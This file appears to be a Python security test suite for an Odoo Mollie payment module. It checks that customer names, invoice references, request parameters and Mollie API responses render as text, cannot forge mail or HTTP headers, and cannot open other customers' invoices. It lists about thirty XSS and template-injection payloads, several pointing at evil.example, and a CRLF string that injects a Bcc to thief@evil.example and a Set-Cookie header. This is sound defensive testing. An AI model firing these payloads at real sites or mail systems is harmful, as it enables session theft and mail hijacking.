"""Scripts and line breaks in names, texts, parameters and Mollie's answers: they stay texts."""

import inspect
from email import message_from_bytes

from lxml import html

from odoo.addons.invoice_mollie.answers import clean_text

from tests.odoo.cases.pages import PageCase
from tests.odoo.cases.routes import our_rules

SCRIPTS = (
    "<script>alert(1)</script>",
    "</title><script>alert(2)</script>",
    "\"><script>alert(3)</script>",
    "'><script>alert(4)</script>",
    "<ScRiPt src=//evil.example/5></sCrIpT>",
    "<img src=x onerror=alert(6)>",
    "<svg onload=alert(7)>",
    "<svg><script>alert(8)</script></svg>",
    "<body onload=alert(9)>",
    "<iframe src=javascript:alert(10)>",
    "<a href=javascript:alert(11)>x</a>",
    "<a href='data:text/html,<script>alert(12)</script>'>x</a>",
    "\" onmouseover=\"alert(13)",
    "' onfocus='alert(14)' autofocus='",
    "<math><mtext></mtext><script>alert(15)</script></math>",
    "<style>@import'//evil.example/16'</style>",
    "<link rel=stylesheet href=//evil.example/17>",
    "<meta http-equiv=refresh content='0;url=//evil.example/18'>",
    "<base href=//evil.example/19>",
    "<form action=//evil.example/20><button>x</button></form>",
    "<object data=//evil.example/21></object>",
    "<embed src=//evil.example/22>",
    "<details open ontoggle=alert(23)>",
    "<!--<script>alert(24)</script>-->",
    "<![CDATA[<script>alert(25)</script>]]>",
    "&lt;script&gt;alert(26)&lt;/script&gt;",
    "&#60;script&#62;alert(27)&#60;/script&#62;",
    "<t t-out='1+27'/>",
    "{{ object.env.cr }}",
    "%(amount)s ${7*7} #{7*7}",
)  # fmt: skip
# All at once: whatever becomes an element, or vanishes, is seen in any company.
SCRIPT = " ".join(SCRIPTS)
# What our pages and mails consist of.
TAGS = {
    "html", "head", "meta", "title", "link", "body", "header", "main", "footer", "div", "span", "p",
    "h1", "h2", "a", "strong", "b", "small", "img", "form", "button", "input", "label", "fieldset",
    "legend", "dl", "dt", "dd", "ul", "li", "br", "details", "summary", "section", "t",
    "nav", "aside",
}  # fmt: skip
EVIL = "evil.example"
BREAK = "x\r\nBcc: thief@evil.example\r\nSet-Cookie: stolen=1\r\n\r\n<b>"


class TestScripts(PageCase):
    """Row E1: they are shown as text, on pages, in mails, in the chatter and in the log."""

    def setUp(self):
        super().setUp()
        self.customer.name = SCRIPT
        self.company.name = SCRIPT
        self.invoice = self.make_invoice(ref=SCRIPT, narration=SCRIPT, payment_reference=SCRIPT)
        self.company.partner_id.bank_ids.unlink()
        bank = {"acc_number": "NL91ABNA0417164300", "acc_holder_name": SCRIPT}
        self.company.partner_id.bank_ids = [(0, 0, bank)]

    def assert_is_text(self, markup, *texts):
        """Check that a page or mail has elements of ours only, and shows these texts."""
        document = html.fromstring(markup)
        elements = list(document.iter(html.etree.Element))
        self.assertLessEqual({element.tag for element in elements}, TAGS)
        for element in elements:
            for name, value in element.attrib.items():
                self.assertFalse(name.startswith("on"), (element.tag, name))
                if name in ("href", "src", "action"):
                    self.assertNotRegex(value, f"^javascript:|^data:text|{EVIL}")
        shown = " ".join(document.text_content().split())
        for text in texts:
            self.assertIn(" ".join(text.split()), shown)

    def test_names_and_references_on_the_pay_page(self):
        self.assert_is_text(self.get(self.make_link(self.invoice)).text, SCRIPT)

    def test_what_mollie_says_of_a_payment(self):
        """On the page, in the log and in the chatter: the failure, the method, the card."""
        tx = self.start_payment(self.invoice)
        details = {"failureMessage": SCRIPT, "cardLabel": SCRIPT}
        self.sandbox.tamper(
            tx.provider_reference, {"status": "failed", "method": SCRIPT[:400], "details": details}
        )
        page = self.get(self.return_path(tx))
        self.assert_is_text(page.text, clean_text(SCRIPT)[:400])
        self.env.invalidate_all()
        self.assertIn(SCRIPTS[0], " ".join(self.invoice.mollie_log_ids.mapped("message")))
        for message in self.invoice.message_ids:
            self.assert_is_text(message.body or "<p/>")
        for model in ("mollie.payment.log", "mollie.difference"):
            kinds = {field.type for field in self.env[model]._fields.values()}
            self.assertNotIn("html", kinds)

    def test_methods_have_names_and_no_icons_of_mollies(self):
        icon = {"svg": f"https://{EVIL}/x.svg", "size1x": "data:text/html,<script>"}
        method = {"id": "ideal", "description": SCRIPT, "image": icon}
        self.sandbox.fault("lie", path="/v2/methods$", fields={"_embedded": {"methods": [method]}})
        self.settings().action_mollie_refresh_methods()
        self.assertNotIn(EVIL + "/x.svg", str(self.provider.mollie_methods))
        tx = self.pay(self.invoice)
        page = self.get(self.return_path(tx))
        self.assert_is_text(page.text, clean_text(SCRIPT)[:400])

    def test_the_mail_with_the_link(self):
        self.make_link(self.invoice)
        self.url_open("/mollie/link", {"number": self.invoice.name})
        self.run_cron("cron_mollie_mail_links")
        mail = self.env["mail.mail"].search([("subject", "like", "Payment link of")])
        self.assert_is_text(mail.body_html, SCRIPT)


class TestParameters(PageCase):
    """Row E2."""

    def test_no_parameter_comes_back(self):
        tx = self.start_payment(self.make_invoice())
        tokens = {
            "/mollie/pay": f"/{tx.mollie_link_id.token}",
            "/mollie/return": "/" + self.return_path(tx).rpartition("/")[2],
            "/mollie/webhook": "/" + self.webhook_path(tx).rpartition("/")[2],
            "/mollie/receipt": f"/{tx.mollie_receipt_token}",
        }
        rules = {rule: e for rule, e in our_rules(self.env).items() if "<" not in rule}
        for rule, endpoint in rules.items():
            handler = inspect.unwrap(getattr(type(endpoint.func.__self__), endpoint.func.__name__))
            names = {*inspect.signature(handler).parameters, "n", "lang", "error", "x"} - {"self"}
            for method in ("GET", "POST"):
                for token in {"", tokens.get(rule, "")}:
                    values = {name: SCRIPTS[2] for name in names}
                    answer = self.url_open(
                        rule + token,
                        data=values if method == "POST" else None,
                        params=values,
                        method=method,
                        allow_redirects=False,
                    )
                    with self.subTest(rule, method=method):
                        told = answer.text + str(dict(answer.headers))
                        self.assertNotIn("<script>alert", told)


class TestLineBreaks(PageCase):
    """Row E5."""

    def test_names_and_references_make_no_headers_of_mails(self):
        """ASVS 1.3.11."""
        self.customer.email = "customer@example.com"
        self.company.email = "office@example.com"
        invoice = self.make_invoice(ref=BREAK, payment_reference=BREAK)
        self.make_link(invoice)
        # Of nobody's at first: then only the references hold one.
        for named in (self.env["res.partner"], self.customer, self.company):
            with self.subTest(named):
                named.name = BREAK
                self.assertEqual(self.forged_lines(self.mail_link(invoice)), [])

    def mail_link(self, invoice):
        invoice._mollie_mail_current_link("mail")
        link = invoice.mollie_payment_link
        (mail, *_older) = self.env["mail.mail"].search([("body_html", "like", link)])
        return mail

    def forged_lines(self, mail):
        """Return the headers of a mail, as it leaves, that names or texts have made."""
        (outgoing,) = mail._prepare_outgoing_list()
        try:
            message = self.env["ir.mail_server"]._build_email__(
                email_from=mail.email_from,
                email_to=outgoing["email_to"],
                subject=mail.subject,
                body=outgoing["body"],
                subtype="html",
            )
        except ValueError as error:
            # Such a mail is not sent at all.
            self.assertIn("Header values may not contain linefeed", str(error))
            return []
        # As whoever receives it reads it: in a text, the same lines are nothing but text.
        received = message_from_bytes(message.as_bytes())
        self.assertIn("customer@example.com", received["To"])
        names = [name for part in received.walk() for name in part.keys()]
        return [name for name in names if name in ("Bcc", "Set-Cookie")]

    def test_a_checkout_address_makes_no_headers_of_the_answer(self):
        for odd in ("\r\n", "\n", "\r", "\x85", "\u2028", "%0d%0a"):
            with self.subTest(odd):
                invoice = self.make_invoice()
                href = f"https://www.mollie.com/x{odd}Set-Cookie: stolen=1"
                links = {"_links": {"checkout": {"href": href}}}
                self.sandbox.fault("lie", method="POST", fields=links)
                answer = self.press_pay(self.make_link(invoice))
                self.assertNotIn("stolen", str(answer.headers.get("Set-Cookie")))
                self.assertNotIn("stolen", str(answer.headers.get("Location")))

    def test_names_and_references_make_no_headers_of_pages(self):
        invoice = self.make_invoice(ref=BREAK, payment_reference=BREAK)
        self.company.name = BREAK
        answer = self.get(self.make_link(invoice))
        self.assertEqual(answer.status_code, 200)
        self.assertNotIn("stolen", str(answer.headers))


class TestDocuments(PageCase):
    """Row C5."""

    def test_the_pages_show_the_invoice_of_their_token_whatever_is_asked_for(self):
        """ASVS 15.3.1."""
        own, other = self.make_invoice(11.0), self.make_invoice(22.0)
        tx = self.start_payment(own)
        asked = {
            "id": other.id,
            "invoice_id": other.id,
            "move_id": other.id,
            "ids": other.id,
            "model": "account.move",
            "access_token": other._portal_ensure_token(),
            "download": "true",
        }
        for path in (f"/mollie/pay/{tx.mollie_link_id.token}", self.return_path(tx)):
            plain = self.get(path)
            for kind in ("pdf", "html", "text", ""):
                with self.subTest(path.split("/")[2], kind=kind):
                    answer = self.get(path, params=asked | {"report_type": kind})
                    self.assertEqual(answer.content, plain.content)
                    self.assertEqual(answer.headers["Content-Type"], "text/html; charset=utf-8")
                    self.assertNotIn("Content-Disposition", answer.headers)
            self.assertNotIn(other.name, plain.text)
            self.assertIn(own.name, plain.text)

    def test_the_token_on_the_page_opens_no_other_invoices_document(self):
        own, other = self.make_invoice(), self.make_invoice()
        page = html.fromstring(self.get(self.make_link(own)).text)
        links = [href for href in page.xpath("//a/@href") if "/my/invoices/" in href]
        self.assertTrue(links)
        for href in links:
            self.assertIn(f"/my/invoices/{own.id}?access_token=", href)
            forged = href.replace(f"/my/invoices/{own.id}?", f"/my/invoices/{other.id}?")
            for more in ("", "&report_type=pdf&download=true"):
                answer = self.get("/my/" + forged.partition("/my/")[2] + more)
                self.assertEqual(answer.status_code, 303)
                self.assertNotIn(other.name, answer.text)
